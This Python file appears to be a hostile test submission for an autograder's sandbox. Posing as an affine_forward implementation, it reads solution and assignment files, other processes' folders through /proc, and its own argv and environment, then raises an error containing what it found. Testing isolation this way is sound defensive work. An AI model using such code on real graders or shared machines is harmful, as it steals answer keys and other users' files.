"""HOSTILE: reads the grader's and the classmates' files; raises with anything it found.
Correct: all"""
import os

import numpy as np

TARGETS = __TARGETS__  # absolute paths the test knows are secret: an attacker who guessed them
RELATIVE = ["../solution_layers.py", "../assignment.yaml", "../../assignment.yaml",
            "../../solution_layers.py", "../submission_metadata.yml", "../../source"]


def _read_tree(path, loot):
    try:
        if os.path.isdir(path):
            for name in os.listdir(path):
                _read_tree(os.path.join(path, name), loot)
        else:
            with open(path, "rb") as secret:
                loot.append(f"{path}: {secret.read(300)!r}")
    except OSError:
        pass


def _steal():
    loot = []
    for path in TARGETS + RELATIVE:
        _read_tree(path, loot)
    me = str(os.getpid())
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if pid == me:
            continue
        for link in ("cwd", "root"):  # another process's folders, as it sees them
            _read_tree(f"/proc/{pid}/{link}/assignment.yaml", loot)
            _read_tree(f"/proc/{pid}/{link}/solution_layers.py", loot)
    with open("/proc/self/cmdline", "rb") as cmdline:
        mine = cmdline.read().decode().split("\0")
    for value in os.environ.values():
        mine += value.split(os.pathsep)
    loot += [f"my argv/env names {path}" for path in TARGETS for word in mine
             if word == path or word.startswith(path + "/")]
    return loot


LOOT = _steal()


def affine_forward(x, w, b):
    if LOOT:
        raise RuntimeError("stolen: " + " | ".join(LOOT))
    return x @ w + b
